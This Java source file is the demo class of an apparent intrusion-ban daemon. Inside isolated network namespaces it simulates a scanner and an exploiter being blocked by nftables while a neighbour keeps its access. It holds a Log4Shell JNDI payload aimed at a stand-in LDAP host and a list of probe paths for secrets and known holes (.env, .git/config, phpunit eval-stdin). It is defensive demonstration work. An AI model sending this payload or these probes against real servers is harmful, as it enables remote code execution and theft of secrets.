package io.gatehouse.daemon.demo;

import java.io.IOException;
import java.io.PrintWriter;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.OptionalInt;

/**
 * The story: a server and its visitors, two of whom attack and are banned, while their neighbour
 * gets its page before, during and after. Nothing is told that was not seen.
 */
public final class Demo {
  private static final String BROWSER =
      "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
  private static final String LOG4SHELL = "${jndi:ldap://203.0.113.99:1389/a}";
  private static final List<String> PROBES =
      List.of(
          "/wp-login.php",
          "/admin.php",
          "/phpmyadmin/index.php",
          "/.env",
          "/.git/config",
          "/backup.zip",
          "/config.php.bak",
          "/server-status",
          "/solr/admin/info",
          "/actuator/env",
          "/vendor/phpunit/eval-stdin.php",
          "/cgi-bin/test.cgi",
          "/manager/html",
          "/xmlrpc.php",
          "/shell.php",
          "/db.sql",
          "/old/index.php",
          "/setup.php");

  private static final Duration PATIENCE = Duration.ofSeconds(2);

  /** Shorter than the kernel's own repeat of a first packet, so that each try is one packet. */
  private static final Duration IMPATIENCE = Duration.ofMillis(400);

  private static final Duration LONGEST = Duration.ofSeconds(10);

  private final Story story;
  private final Path accessLog;
  private final Opening opening;

  /** Puts the server under protection. */
  @FunctionalInterface
  public interface Opening {
    /**
     * Returns once the log is read and what is decided is enforced.
     *
     * @param accessLog in the format {@code combined}
     */
    Defence protect(Path accessLog) throws Exception;
  }

  /**
   * A story that is not yet told.
   *
   * @param coloured whether the output shows colours
   * @param directory for the access log
   */
  public Demo(PrintWriter out, boolean coloured, Path directory, Opening opening) {
    this.story = new Story(out, coloured);
    this.accessLog = directory.resolve("access.log");
    this.opening = opening;
  }

  /**
   * Tells it.
   *
   * @throws DemoException if something else was seen than what should have been
   */
  public void run() throws Exception {
    story.chapter("A private network; nothing on this host changes");
    try (DemoNetwork network = DemoNetwork.build();
        DemoWebServer server = DemoWebServer.start(DemoNetwork.SERVER, accessLog)) {
      story.tell(
          "two network namespaces and a cable: server %s | visitors %s, %s, %s"
              .formatted(
                  DemoNetwork.SERVER,
                  DemoNetwork.NEIGHBOUR,
                  DemoNetwork.SCANNER,
                  DemoNetwork.EXPLOITER));
      story.tell("a web server at %s, its access log %s".formatted(server.url(), accessLog));
      try (Defence defence = opening.protect(accessLog)) {
        story.tell("gatehouse reads that log, decides, and has its rule in the kernel (nftables)");
        happen(network, defence);
      }
    }
  }

  private void happen(DemoNetwork network, Defence defence) throws Exception {
    expectPage(network, "before");
    story.chapter("A scanner looks for holes");
    long shut = attack(network, DemoNetwork.SCANNER, BROWSER, PROBES);
    tellBan(defence, DemoNetwork.SCANNER, shut);
    expectPage(network, "while the scanner is banned");
    story.chapter("Somebody tries Log4Shell (CVE-2021-44228)");
    shut = attack(network, DemoNetwork.EXPLOITER, LOG4SHELL, List.of("/"));
    tellBan(defence, DemoNetwork.EXPLOITER, shut);
    story.chapter("They keep knocking");
    long before = defence.droppedPackets();
    knock(network, DemoNetwork.SCANNER);
    knock(network, DemoNetwork.EXPLOITER);
    long dropped = defence.droppedPackets();
    if (dropped <= before) {
      throw new DemoException(
          "demo: the kernel counts %d dropped packets, as before".formatted(dropped));
    }
    story.good("the kernel's counter of dropped packets: %d, then %d".formatted(before, dropped));
    int status = expectPage(network, "after");
    story.end(
        String.format(
            Locale.ROOT,
            "demo: attacker dropped %d packets, neighbour %d, %.1f s",
            dropped,
            status,
            story.seconds()));
  }

  /**
   * Asks for one page after the other, and for the first ones again, until nobody answers.
   *
   * @return how many milliseconds after the last page that was answered
   */
  private long attack(DemoNetwork network, String address, String agent, List<String> targets)
      throws DemoException, InterruptedException {
    return network.inVisitors(
        () -> {
          Visitor visitor = new Visitor(address);
          long end = System.nanoTime() + LONGEST.toNanos();
          long answered = System.nanoTime();
          for (int i = 0; System.nanoTime() < end; i++) {
            String target = targets.get(i % targets.size());
            boolean isLast = i >= targets.size();
            long sent = System.nanoTime();
            OptionalInt status =
                visitor.get(DemoNetwork.SERVER, target, isLast ? BROWSER : agent, IMPATIENCE);
            if (status.isEmpty()) {
              return Math.max(0, (sent - answered) / 1_000_000);
            }
            answered = System.nanoTime();
            tellProbe(address, target, agent, status.getAsInt(), i, targets.size());
            Thread.sleep(isLast ? 1 : 20);
          }
          throw new DemoException(
              "demo: %s still gets answers after %d s".formatted(address, LONGEST.toSeconds()));
        });
  }

  private void tellProbe(
      String address, String target, String agent, int status, int number, int count) {
    if (agent.equals(LOG4SHELL) && number == 0) {
      story.bad("%s  GET %s  User-Agent: %s  → %d".formatted(address, target, agent, status));
    } else if (count > 3 && number < 3) {
      story.bad("%s  GET %s  → %d".formatted(address, target, status));
    } else if (count > 3 && number == 3) {
      story.bad("%s  … and so on, 50 a second".formatted(address));
    }
  }

  private void tellBan(Defence defence, String address, long shut) throws DemoException {
    String decision =
        defence
            .decision(address)
            .orElseThrow(
                () ->
                    new DemoException(
                        "demo: %s is shut out, and nobody decided it".formatted(address)));
    story.good(decision);
    story.good("%s gets no answer any more, %d ms after its last one".formatted(address, shut));
  }

  private void knock(DemoNetwork network, String address)
      throws DemoException, InterruptedException {
    boolean open =
        network.inVisitors(
            () -> {
              boolean answered = false;
              for (int i = 0; i < 3; i++) {
                answered |=
                    new Visitor(address)
                        .get(DemoNetwork.SERVER, "/", BROWSER, IMPATIENCE)
                        .isPresent();
              }
              return answered;
            });
    if (open) {
      throw new DemoException("demo: %s gets answers although it is banned".formatted(address));
    }
    story.bad("%s  GET /  → nothing, three times".formatted(address));
  }

  private int expectPage(DemoNetwork network, String when)
      throws DemoException, InterruptedException {
    int status =
        network.inVisitors(
            () -> {
              try {
                return new Visitor(DemoNetwork.NEIGHBOUR)
                    .get(DemoNetwork.SERVER, "/", BROWSER, PATIENCE)
                    .orElse(0);
              } catch (IOException e) {
                return 0;
              }
            });
    if (status != 200) {
      throw new DemoException("demo: the neighbour got no page " + when);
    }
    story.good("%s, a neighbour, %s: GET /  → 200".formatted(DemoNetwork.NEIGHBOUR, when));
    return status;
  }
}
